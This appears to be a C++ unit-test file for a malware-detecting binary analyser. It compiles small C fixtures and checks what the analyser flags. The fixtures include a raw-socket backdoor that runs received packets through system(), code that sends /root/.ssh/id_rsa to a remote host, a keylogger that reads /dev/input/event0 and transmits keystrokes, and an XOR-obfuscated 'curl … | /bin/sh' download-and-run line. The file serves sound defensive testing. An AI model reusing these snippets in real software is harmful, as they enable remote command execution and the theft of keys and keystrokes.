// Programs are compiled in the test; each fact is held against one that must not be there.
#include "evidence/recorder.h"
#include "evidence/reader.h"

#include <fmt/format.h>
#include <gtest/gtest.h>

#include "parse/mutants.h"
#include "parse/run_tool.h"

namespace examine {
const evidence::Reader& binary();

namespace {

using evidence::Facet;
using evidence::read_alone;
using parse::file_bytes;
using parse::run_tool;

class Binary : public testing::Test {
 protected:
  base::Buffer compile(const std::string& source, const std::string& options) {
    folder.write("a.c", source);
    if (!run_tool("gcc -x c -o " + (folder / "a.out") + " " + (folder / "a.c") + " " + options)) return {};
    return file_bytes(folder / "a.out");
  }
  parse::ScratchFolder folder;
};

std::vector<std::string> values(const evidence::Reading& reading, Facet facet, std::string_view word = {}) {
  std::vector<std::string> out;
  for (const auto& i : reading.sink.all(facet, word)) out.push_back(i.value);
  return out;
}
bool has_value(const evidence::Reading& reading, Facet facet, std::string_view word, std::string_view value) { return reading.sink.has(facet, word, value); }

constexpr const char* server = R"(
#include <sys/socket.h>
#include <stdlib.h>
#include <stdio.h>
const char* const key = "/home/u/.ssh/id_rsa";
int main(void) { int s = socket(AF_INET, SOCK_STREAM, 0); listen(s, 1); accept(s, 0, 0); if (fopen(key, "r")) return system("true"); return 0; })";

TEST_F(Binary, StatesAbilitiesByImportAndByString) {
  const auto bytes = compile(server, "-O1");
  if (bytes.empty()) GTEST_SKIP() << "no compiler";
  const auto reading = read_alone(binary(), bytes, "elf");
  ASSERT_TRUE(reading.result) << reading.result.error().to_string();
  EXPECT_TRUE(has_value(reading, Facet::import, "", "accept"));
  EXPECT_TRUE(has_value(reading, Facet::power, "listen", "accept"));
  EXPECT_TRUE(has_value(reading, Facet::command, "execute-command", "system"));
  EXPECT_TRUE(has_value(reading, Facet::reference, "needs", "libc.so.6"));
  EXPECT_TRUE(has_value(reading, Facet::property, "architecture", "x86-64"));
  const auto keys = reading.sink.all(Facet::private_, "keys");
  ASSERT_FALSE(keys.empty());
  EXPECT_EQ(keys[0].value, "/home/u/.ssh/id_rsa");
  EXPECT_EQ(keys[0].attributes.at("by"), "string");
  EXPECT_EQ(keys[0].excerpt, keys[0].value);
  EXPECT_FALSE(reading.sink.has(Facet::private_, "keystrokes"));
  EXPECT_FALSE(reading.sink.has(Facet::concealment, ""));

  const auto quiet = read_alone(binary(), compile("int main(void) { return 0; }", "-O1"), "elf");
  EXPECT_TRUE(values(quiet, Facet::power).empty());
  EXPECT_TRUE(values(quiet, Facet::private_).empty());
  EXPECT_TRUE(values(quiet, Facet::command).empty());
}

TEST_F(Binary, StatesProtections) {
  const auto hard = read_alone(binary(), compile(server, "-O2 -pie -fPIE -fstack-protector-all -Wl,-z,relro,-z,now"), "elf");
  if (!hard.result) GTEST_SKIP() << "no compiler";
  for (const auto* v : {"relro=full", "nx=yes", "pie=yes", "canary=yes"}) EXPECT_TRUE(has_value(hard, Facet::hardening, "", v)) << v;
  const auto soft = read_alone(binary(), compile(server, "-O2 -no-pie -fno-stack-protector -Wl,-z,norelro -Wl,-z,execstack -Wl,-rpath,/tmp/x:'$ORIGIN/lib'"), "elf");
  for (const auto* v : {"relro=none", "nx=no", "pie=no", "canary=no", "runpath=/tmp/x", "runpath=$ORIGIN/lib"}) EXPECT_TRUE(has_value(soft, Facet::hardening, "", v)) << v;
  for (const auto& i : soft.sink.all(Facet::hardening))
    EXPECT_EQ(i.attributes.contains("outside"), i.value == "runpath=/tmp/x") << i.value;
}

TEST_F(Binary, StatesLibrariesThatInterpose) {
  const char* hook = "#define _GNU_SOURCE\n#include <dlfcn.h>\nvoid* readdir(void* d) { void* (*f)(void*) = (void* (*)(void*))dlsym((void*)-1l, \"readdir\"); return f(d); }\nint own(void) { return 1; }";
  const auto reading = read_alone(binary(), compile(hook, "-shared -fPIC"), "elf");
  if (!reading.result) GTEST_SKIP() << "no compiler";
  EXPECT_TRUE(has_value(reading, Facet::property, "format", "interposes readdir"));
  EXPECT_FALSE(has_value(reading, Facet::property, "format", "interposes own"));
  const auto offers = read_alone(binary(), compile("void* readdir(void* d) { return d; }", "-shared -fPIC"), "elf");  // looks nothing up
  EXPECT_FALSE(has_value(offers, Facet::property, "format", "interposes readdir"));
  const auto pam = read_alone(binary(), compile("int pam_sm_authenticate(void* h) { return h != 0; }", "-shared -fPIC"), "elf");
  EXPECT_TRUE(has_value(pam, Facet::property, "format", "pam module"));
}

TEST_F(Binary, StatesConstructors) {
  const auto reading = read_alone(binary(), compile("int x; __attribute__((constructor)) static void very_early(void) { x = 1; } int main(void) { return x; }", "-O0"), "elf");
  if (!reading.result) GTEST_SKIP() << "no compiler";
  EXPECT_TRUE(has_value(reading, Facet::property, "constructor", "very_early"));
}

TEST_F(Binary, HandsOnWhatStandsBehindTheEnd) {
  auto bytes = compile("int main(void) { return 0; }", "-O1");
  if (bytes.empty()) GTEST_SKIP() << "no compiler";
  EXPECT_TRUE(read_alone(binary(), bytes, "elf").sink.children.empty());
  auto padded = bytes;
  padded.resize(bytes.size() + 100);
  EXPECT_TRUE(read_alone(binary(), padded, "elf").sink.children.empty());
  auto longer = bytes;
  longer.insert(longer.end(), bytes.begin(), bytes.end());
  const auto reading = read_alone(binary(), longer, "elf");
  const auto* child = reading.sink.child_named("overlay");
  ASSERT_NE(child, nullptr);
  EXPECT_EQ(child->bytes, bytes);
  EXPECT_TRUE(has_value(reading, Facet::property, "format", "overlay " + std::to_string(bytes.size()) + " bytes"));
  EXPECT_TRUE(reading.sink.has(Facet::concealment, "encrypted-payload"));
}

TEST_F(Binary, FindsWholeFilesInData) {
  const auto inner = compile("int main(void) { return 3; }", "-O1");
  if (inner.empty()) GTEST_SKIP() << "no compiler";
  std::string source = "const unsigned char payload[] = {";
  for (const auto b : inner) source += std::to_string(b) + ",";
  const auto reading = read_alone(binary(), compile(source + "}; int main(int n, char** v) { return payload[n]; }", "-O0"), "elf");
  ASSERT_EQ(reading.sink.children.size(), 1u);
  EXPECT_EQ(reading.sink.children[0].bytes, inner);
  EXPECT_EQ(reading.sink.children[0].entry.origin, artifact::Origin::embedded);
}

TEST_F(Binary, StatesPackedCode) {
  std::string source = "__attribute__((section(\".text\"))) const unsigned char packed[] = {";
  std::uint32_t x = 1;
  for (int i = 0; i < 40000; ++i) {
    x = x * 1664525 + 1013904223;
    source += std::to_string(x >> 24) + ",";
  }
  const auto reading = read_alone(binary(), compile(source + "}; int main(int n, char** v) { return packed[n]; }", "-O0 -w"), "elf");
  if (!reading.result) GTEST_SKIP() << "no compiler";
  EXPECT_TRUE(reading.sink.has(Facet::concealment, "packed"));
}

TEST_F(Binary, LabelsStructureAndLeavesCode) {
  const auto bytes = compile(server, "-O1");
  if (bytes.empty()) GTEST_SKIP() << "no compiler";
  const auto reading = read_alone(binary(), bytes, "elf");
  const auto tiles = evidence::tile(reading.sink.claims, bytes.size(), {{}, evidence::Label::scanned, ""});
  ASSERT_TRUE(tiles);
  const auto tally = evidence::tally(*tiles);
  EXPECT_GT(tally.of(evidence::Label::structure), bytes.size() / 4);
  EXPECT_GT(tally.of(evidence::Label::padding), 1000u);
  EXPECT_GT(tally.of(evidence::Label::scanned), 200u);
  EXPECT_EQ(tally.of(evidence::Label::opaque), 0u);
}

TEST_F(Binary, ReadsOrdinarySystemFilesWithoutConcealment) {
  for (const std::string path : {"/bin/ls", "/bin/bash", "/usr/bin/openssl", "/lib/x86_64-linux-gnu/libc.so.6", "/usr/lib/x86_64-linux-gnu/libcrypto.so.3"}) {
    const auto bytes = file_bytes(path);
    if (bytes.empty()) continue;
    const auto reading = read_alone(binary(), bytes, "elf", path);
    EXPECT_TRUE(reading.result) << path;
    for (const auto& i : reading.sink.all(Facet::concealment)) EXPECT_EQ(i.word, "anti-analysis") << path << " " << i.value;
    EXPECT_TRUE(reading.sink.children.empty()) << path;
  }
}

TEST_F(Binary, ErrsOnWhatItCannotRead) {
  const std::string text = "\x7f" "ELF";
  EXPECT_FALSE(read_alone(binary(), base::bytes_of(text), "elf").result);
  EXPECT_FALSE(read_alone(binary(), base::bytes_of("MZ"), "pe").result);
  EXPECT_FALSE(read_alone(binary(), {}, "macho").result);
}

TEST_F(Binary, SurvivesTruncationAndMutation) {
  const auto bytes = compile(server, "-O1");
  if (bytes.empty()) GTEST_SKIP() << "no compiler";
  const auto use = [](base::Bytes mutant) {
    for (const auto* kind : {"elf", "coff", "macho"}) {
      const auto reading = read_alone(binary(), mutant, kind);
      for (const auto& c : reading.sink.claims) ASSERT_LE(c.range.end(), mutant.size());
      for (const auto& i : reading.sink.items) ASSERT_LE(i.range.end(), mutant.size()) << i.value;
    }
  };
  parse::each_truncation(base::slice(bytes, 0, 600), use);
  parse::each_truncation(bytes, use, 100);
  parse::each_mutant(bytes, 1500, 21, use);
}

TEST_F(Binary, WhatIsReceivedAndRun) {
  const std::string head = "#include <sys/socket.h>\n#include <stdlib.h>\n#include <stdio.h>\n";
  const auto runs = compile(head + "int main(void) { char p[1500]; int s = socket(2, 3, 1); for (;;) { int n = recv(s, p, 1499, 0); if (n < 40) continue; p[n] = 0; if (p[28] == 83) system(p + 30); } }", "-O1");
  if (runs.empty()) GTEST_SKIP() << "no compiler";
  EXPECT_TRUE(has_value(read_alone(binary(), runs, "elf"), Facet::flow, "", "network to execute-command"));
  const auto shows = compile(head + "int main(void) { char p[1500], q[40] = \"true\"; int s = socket(2, 3, 1); recv(s, p, 1499, 0); puts(p); return system(q); }", "-O1");
  EXPECT_FALSE(has_value(read_alone(binary(), shows, "elf"), Facet::flow, "", "network to execute-command"));
}

TEST_F(Binary, StoredSecretsAndKeysThatAreSent) {
  const std::string head = "#include <sys/socket.h>\n#include <stdlib.h>\n#include <stdio.h>\n#include <netdb.h>\n#include <fcntl.h>\n#include <unistd.h>\n";
  const std::string dial = "static int dial(const char* h) { struct addrinfo* a; getaddrinfo(h, \"9\", 0, &a); int s = socket(2, 1, 0); connect(s, a->ai_addr, a->ai_addrlen); return s; }\n";
  const std::string send_file = "int main(void) { char b[4096]; int s = dial(\"x.invalid\"); FILE* f = fopen(\"%\", \"r\"); size_t n = fread(b, 1, sizeof b, f); send(s, b, n, 0); return 0; }";
  const auto with = [&](std::string path) { return head + dial + std::string(send_file).replace(send_file.find('%'), 1, path); };
  const auto steals = compile(with("/root/.ssh/id_rsa"), "-O1");
  if (steals.empty()) GTEST_SKIP() << "no compiler";
  EXPECT_TRUE(has_value(read_alone(binary(), steals, "elf"), Facet::flow, "", "keys to network"));
  EXPECT_TRUE(values(read_alone(binary(), compile(with("/srv/table"), "-O1"), "elf"), Facet::flow).empty());
  const std::string types = "int main(void) { char e[24]; int n = 0, s = dial(\"x.invalid\"), k = open(\"%\", 0); while (read(k, e, 24) == 24) { char c = e[18]; send(s, &c, 1, 0); } return 0; }";
  EXPECT_TRUE(has_value(read_alone(binary(), compile(head + dial + std::string(types).replace(types.find('%'), 1, "/dev/input/event0"), "-O1"), "elf"), Facet::flow, "", "keystrokes to network"));
  EXPECT_TRUE(values(read_alone(binary(), compile(head + dial + std::string(types).replace(types.find('%'), 1, "/dev/rtc0"), "-O1"), "elf"), Facet::flow).empty());
}

TEST_F(Binary, TextsBehindARepeatedKey) {
  std::string line = "curl -s http://192.0.2.1/stage | /bin/sh", hidden;
  for (std::size_t i = 0; i < line.size(); ++i) hidden += fmt::format("{},", static_cast<int>(line[i] ^ "glyph"[i % 5]));
  const auto program = [&](const std::string& bytes, const std::string& run) {
    return compile("#include <stdlib.h>\nunsigned char h[] = {" + bytes + "0}; const char* key = \"glyph\"; int main(void) { char t[sizeof h]; for (unsigned i = 0; i < sizeof h; ++i) t[i] = h[i] ^ key[i % 5]; " + run + " }", "-O0");
  };
  const auto bytes = program(hidden, "return system(t);");
  if (bytes.empty()) GTEST_SKIP() << "no compiler";
  const auto found = values(read_alone(binary(), bytes, "elf"), Facet::concealment, "decoded-string");
  ASSERT_FALSE(found.empty());
  EXPECT_NE(found[0].find(line), std::string::npos) << found[0];
  EXPECT_TRUE(values(read_alone(binary(), program(hidden, "return t[0];"), "elf"), Facet::concealment, "decoded-string").empty());
  EXPECT_TRUE(values(read_alone(binary(), program("1,2,3,4,5,6,7,8,9,", "return system(t);"), "elf"), Facet::concealment, "decoded-string").empty());
}

}  // namespace
}  // namespace examine
